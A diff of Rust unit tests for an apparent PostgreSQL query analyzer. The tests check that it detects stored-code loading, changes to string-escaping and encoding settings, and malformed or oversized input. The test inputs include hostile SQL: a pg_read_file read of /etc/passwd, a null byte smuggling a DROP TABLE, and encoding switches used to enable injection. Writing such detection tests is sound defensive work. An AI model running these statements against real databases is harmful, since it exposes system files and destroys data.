+            "LOAD 'plpgsql'",
+            "CREATE LANGUAGE plperlu",
+        ] {
+            assert!(analyze(code).kinds.contains(&STORED_CODE.into()), "{code}: {:?}", analyze(code).kinds);
+        }
+        // Every way to change a lexing setting.
+        for pin in [
+            "SET standard_conforming_strings = off",
+            "set session client_encoding to 'SJIS'",
+            "SET NAMES 'GBK'",
+            "RESET backslash_quote",
+            "SELECT set_config('standard_conforming_strings', 'off', false)",
+            "SELECT pg_catalog.set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)",
+            "ALTER ROLE app SET standard_conforming_strings = off",
+            "ALTER DATABASE shop SET client_encoding = 'SJIS'",
+            "SELECT 1; SET LOCAL standard_conforming_strings TO off",
+        ] {
+            assert!(analyze(pin).kinds.contains(&PINNED_SETTING.into()), "{pin}: {:?}", analyze(pin).kinds);
+        }
+        assert!(!analyze("RESET ALL").kinds.contains(&PINNED_SETTING.into()));
+        assert!(!analyze("SET search_path = public").kinds.contains(&PINNED_SETTING.into()));
+        // What ordinary clients send parses.
+        assert!(analyze("SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relnamespace OPERATOR(pg_catalog.=) 11").parsed);
+        assert_eq!(analyze("MOVE FORWARD 500 __asyncpg_portal_6__").kinds, ["move"]);
+        assert!(analyze("COMMENT ON LARGE OBJECT 1234 IS 'x'").parsed);
+        assert!(analyze("select pg_read_file('/etc/passwd')").functions.contains(&"pg_read_file".into()));
+    }
+
+    #[test]
+    fn session_names() {
+        let n = names("PREPARE p AS DELETE FROM t; EXECUTE p; DEALLOCATE p; DEALLOCATE ALL");
+        assert_eq!(n.prepared.len(), 1);
+        assert_eq!(n.prepared[0].0, "p");
+        assert!(n.prepared[0].1.kinds.contains(&"delete".into()), "{:?}", n.prepared[0].1);
+        assert!(!n.prepared[0].1.has_where);
+        assert_eq!(n.executed, ["p"]);
+        assert_eq!(n.deallocated, [Some("p".into()), None]);
+        let n = names("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers; FETCH 10 FROM c; MOVE FORWARD 5 IN c; CLOSE c; CLOSE ALL");
+        assert_eq!(n.declared[0].0, "c");
+        assert_eq!(n.declared[0].1.tables, ["customers"]);
+        assert_eq!(n.fetched, ["c", "c"]);
+        assert_eq!(n.closed, [Some("c".into()), None]);
+        assert!(names("SELECT 1").is_empty());
+    }
+
+    #[test]
     fn unreadable_and_hostile() {
         assert_eq!(analyze("SELEC oops").kinds, ["unknown"]);
         assert!(!analyze("SELEC oops").parsed);
-        let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
+        let deep = format!("SELECT {}1{}", "-(".repeat(5000), ")".repeat(5000));
         assert_eq!(analyze(&deep).kinds, ["unknown"]);
         assert_eq!(analyze("").kinds, ["empty"]);
+        assert_eq!(analyze("select 1\0; drop table t").kinds, ["unknown"]);
         let s = analyze("select * from \"Public\".\"Users\" u join orders o on o.uid = u.id");
         assert_eq!(s.tables, ["public.users", "orders"]);
+        let big = format!("SELECT '{}'", "x".repeat(2 << 20));
+        assert_eq!(analyze(&big).kinds, ["select"]);
     }
 }
